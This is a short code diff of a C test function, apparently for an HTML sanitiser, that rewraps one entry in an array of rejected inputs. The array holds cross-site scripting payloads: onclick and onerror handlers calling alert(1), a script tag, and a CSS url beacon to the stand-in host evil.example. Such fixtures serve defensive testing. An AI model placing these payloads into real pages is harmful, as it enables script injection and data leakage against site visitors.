@@ -43,8 +43,8 @@ static void
 test_html(void)
 {
 	static const char *const bad[] = {
-		"<br onclick=alert(1) "
-		    "style=\"background:url(https://evil.example/?d=1)\">\n",
+		("<br onclick=alert(1) "
+		    "style=\"background:url(https://evil.example/?d=1)\">\n"),
 		"x <brand onmouseover=alert(1)>y\n", "x <br x>y\n",
 		"<br>\n<img src=x onerror=alert(1)>\n", "<BR>\n",
 		"Text.\n\n<br><script>alert(1)</script>\n",
